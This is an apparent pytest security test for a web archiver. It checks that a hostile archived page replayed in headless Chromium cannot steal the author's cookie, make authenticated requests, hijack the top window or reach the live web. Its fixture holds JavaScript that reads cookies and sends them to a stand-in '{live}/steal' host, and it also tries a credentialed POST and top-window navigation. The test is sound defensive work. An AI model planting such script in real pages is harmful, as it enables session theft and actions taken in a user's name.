"""A hostile archived page in a real browser (headless Chromium) cannot read the author's
cookie, call an authenticated endpoint, navigate the top window, or reach the live web; and the
archived page still renders from the archive (its image loads from there)."""

from __future__ import annotations

import re
from typing import Any

import pytest
from sqlalchemy import func, select
from werkzeug.security import generate_password_hash

from archiver.archive import Archive
from archiver.demo.fixtureweb import Site
from archiver.jobs import capture_link
from archiver.models import Check
from tests.conftest import Server
from tests.test_capture import PNG, add_link
from web import create_app

PASSWORD = "a long enough password"
HOSTILE = """<!doctype html><html><head><title>Innocent article</title></head><body>
<h1>Innocent article</h1><img id="photo" src="/photo.png" alt="photo">
<img src="{live}/tracker.gif" alt="">
<script>
function say(what) {{ console.log("hostile:" + what); }}
say("running");
try {{ say("cookie=" + document.cookie); }} catch (e) {{ say("cookie-error=" + e.name); }}
try {{ say("top-cookie=" + top.document.cookie); }}
catch (e) {{ say("top-cookie-error=" + e.name); }}
try {{ localStorage.setItem("x", "1"); say("storage=ok"); }}
catch (e) {{ say("storage-error=" + e.name); }}
fetch("/links/1/recheck", {{method: "POST", credentials: "include"}})
  .then(function (r) {{ say("recheck=" + r.status); }})
  .catch(function (e) {{ say("recheck-error=" + e.name); }});
fetch("{live}/steal?c=" + encodeURIComponent(document.cookie))
  .then(function () {{ say("live=reached"); }}).catch(function () {{ say("live=blocked"); }});
try {{ top.location.href = "{live}/pwned"; say("top-nav=tried"); }}
catch (e) {{ say("top-nav-error=" + e.name); }}
setTimeout(function () {{ say("done"); }}, 500);
</script></body></html>"""


@pytest.fixture
def hostile(archive: Archive, site: Site) -> tuple[str, Site]:
    live = Site("live").start()
    site.page("/article", HOSTILE.format(live=live.url("").rstrip("/")))
    site.page("/photo.png", PNG, content_type="image/png")
    capture_link(archive, add_link(archive, site.url("/article")))
    site.page("/article", "<p>the live page changed</p>")
    live.hits.clear()  # the capture fetched its requisites; from now on nothing may reach it
    yield site.url("/article"), live  # type: ignore[misc]
    live.stop()


def visit(browser: Any, archive: Archive, url: str, *, scripts: bool) -> dict[str, Any]:
    """Log in as the author, open the archived page in its frame, record what happens."""
    settings = archive.settings.replace(web__admin_password_hash=generate_password_hash(PASSWORD),
                                        web__replay_scripts=scripts)
    app = create_app(settings, archive)
    seen: dict[str, Any] = {"console": [], "requests": [], "responses": {}}
    with Server(app) as server:
        context = browser.new_context()
        page = context.new_page()
        page.on("console", lambda message: seen["console"].append(message.text))
        page.on("request", lambda request: seen["requests"].append(request.url))
        page.on("response", lambda response: seen["responses"].__setitem__(response.url,
                                                                         response.status))
        page.goto(server.url("/login"))
        page.fill("input[name=password]", PASSWORD)
        page.click("button")
        page.wait_for_url(server.url("/"))
        cookies = context.cookies()
        assert any(cookie["httpOnly"] and cookie["sameSite"] == "Strict" for cookie in cookies)
        frame_url = server.url(f"/web/2026/{url}")
        page.goto(frame_url)
        page.wait_for_timeout(1500)  # the hostile script says "done" after 0.5 s
        seen["top_url"] = page.url
        page.goto(server.url("/"))
        seen["still_author"] = "Log out" in page.content()
        seen["origin"] = server.origin
        context.close()
    return seen


@pytest.mark.parametrize("scripts", [False, True])
def test_archived_scripts_cannot_touch_the_author_or_the_live_web(
        browser: Any, archive: Archive, hostile: tuple[str, Site], scripts: bool) -> None:
    url, live = hostile
    with archive.db.session() as session:
        checks_before = session.scalar(select(func.count(Check.id)))
    seen = visit(browser, archive, url, scripts=scripts)
    said = [text.removeprefix("hostile:") for text in seen["console"]
            if text.startswith("hostile:")]
    if scripts:
        assert "running" in said
        assert any(re.fullmatch(r"cookie(-error=SecurityError|=)", s) for s in said), said
        assert "top-cookie-error=SecurityError" in said
        assert "storage-error=SecurityError" in said
        assert "recheck=200" not in said
        assert "live=reached" not in said
    else:
        assert said == []  # scripts do not run at all by default
    # The author's session survived and nothing was done in the author's name.
    assert seen["still_author"]
    with archive.db.session() as session:
        assert session.scalar(select(func.count(Check.id))) == checks_before
    # The top window stayed on the archive's frame page.
    assert seen["top_url"].startswith(seen["origin"] + "/web/")
    # Nothing left the archive: the live site saw no request at all.
    assert live.hits == {}
    assert all(request.startswith(seen["origin"]) for request in seen["requests"]), \
        [r for r in seen["requests"] if not r.startswith(seen["origin"])]
    # The archived page rendered from the archive: its image was served from there.
    photo = [u for u in seen["responses"] if u.endswith("/photo.png")]
    assert photo and all(seen["responses"][u] == 200 for u in photo)
